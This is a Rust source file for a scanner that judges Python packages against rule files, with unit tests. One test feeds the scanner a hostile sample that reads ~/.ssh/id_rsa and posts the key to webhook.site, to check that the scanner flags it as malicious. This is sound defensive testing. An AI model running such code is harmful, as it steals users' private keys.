//! Judges what an analysis found by rules, which are data: each is a file in `data/rules/` with a hit and a no-hit.
//!
//! A scan is a reader's help. The sandbox is the border.

mod advisory;
mod code;
mod declared;
mod hit;

use std::io;
use std::path::Path;

use crate::budget::{Budget, Limits};
use crate::model::{Analysis, Finding};
use crate::verdict::Verdict;
use crate::walk::{SourceFile, failed, in_large_thread, list, read_files, sort};

pub use advisory::Advisories;
pub use declared::Declared;
pub use hit::{Hit, MAX_HITS, Scan};

/// What an operator demands of code. A hit is suspicious.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Policy {
    /// Top-level modules that may be imported beside Python's library, the package and its `vendor/`. Empty: all.
    pub allowed_imports: Vec<String>,
    /// Modules that may not be imported, such as `ctypes` or `os.path`.
    pub denied_imports: Vec<String>,
}

/// Judges an unpacked package.
pub fn scan_folder(
    folder: &Path,
    declared: Option<&Declared>,
    policy: &Policy,
    advisories: &Advisories,
    limits: &Limits,
) -> io::Result<Scan> {
    let (files, found) = list(folder, limits)?;
    Ok(judge(files, &found, declared, policy, advisories, limits))
}

/// Judges the files of a package.
pub fn scan_files(
    files: Vec<SourceFile>,
    declared: Option<&Declared>,
    policy: &Policy,
    advisories: &Advisories,
    limits: &Limits,
) -> Scan {
    judge(files, &[], declared, policy, advisories, limits)
}

fn judge(
    mut files: Vec<SourceFile>,
    found: &[Finding],
    _declared: Option<&Declared>,
    _policy: &Policy,
    _advisories: &Advisories,
    limits: &Limits,
) -> Scan {
    sort(&mut files);
    let read = || {
        let budget = Budget::new(limits);
        let mut analysis = read_files(&files, &budget);
        analysis.findings.extend_from_slice(found);
        scan(&analysis)
    };
    let scan = in_large_thread(read).unwrap_or_else(|message| scan(&failed(&message)));
    Scan { files: files.len(), ..scan }
}

/// Judges what an analysis found. Files that could not be read are hits, too.
pub fn scan(analysis: &Analysis) -> Scan {
    let mut hits = Vec::new();
    for finding in &analysis.findings {
        hits.push(Hit {
            rule: "unreadable".to_owned(),
            verdict: Verdict::Notes,
            path: finding.path.clone(),
            place: finding.place,
            what: finding.message.clone(),
            reason: "What cannot be read is not judged.".to_owned(),
            how: "Repair the file, or leave it out of the package.".to_owned(),
        });
    }
    hits.extend(code::hits(analysis));
    Scan {
        files: analysis.modules.len() + analysis.objects.len(),
        is_complete: analysis.is_complete(),
        ..Scan::of(hits)
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::rule::rules;
    use crate::{Limits, analyze_source};

    fn scanned(code: &str) -> Scan {
        let analysis = analyze_source("main.py", code.as_bytes(), &Limits::default());
        assert_eq!(analysis.findings, [], "{code}");
        scan(&analysis)
    }

    #[test]
    fn every_rule_hits_its_hit_and_nothing_else() {
        let mut wrong = Vec::new();
        for rule in rules() {
            let names = |code: &str| scanned(code).hits.into_iter().map(|hit| hit.rule).collect::<BTreeSet<_>>();
            let expected = std::iter::once(&rule.id).chain(&rule.also).cloned().collect::<BTreeSet<_>>();
            if names(&rule.hit) != expected {
                wrong.push(format!("{}: {:?}: {}", rule.id, names(&rule.hit), rule.hit));
            }
            let harmless = scanned(&rule.no_hit);
            if harmless.verdict > Verdict::Notes || harmless.hits.iter().any(|hit| hit.rule == rule.id) {
                wrong.push(format!("{}: {:?}", rule.id, harmless.hits));
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn two_stages_in_one_file_are_malicious() {
        let collect = "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
        assert_eq!(scanned(collect).verdict, Verdict::Suspicious);
        let sent = format!("{collect}import requests\nrequests.post('https://webhook.site/x', data=key)\n");
        let scan = scanned(&sent);
        assert_eq!(scan.verdict, Verdict::Malicious);
        assert!(scan.hits.iter().any(|hit| hit.place.unwrap().line == 4 && hit.rule == "drop-host"), "{scan:?}");
        assert_eq!(scanned("import json\nprint(json.dumps({}))\n").verdict, Verdict::Clean);
    }

    #[test]
    fn what_cannot_be_read_is_not_clean() {
        let analysis = analyze_source("main.py", b"x = (\n", &Limits::default());
        assert_eq!(scan(&analysis).verdict, Verdict::Notes);
    }
}
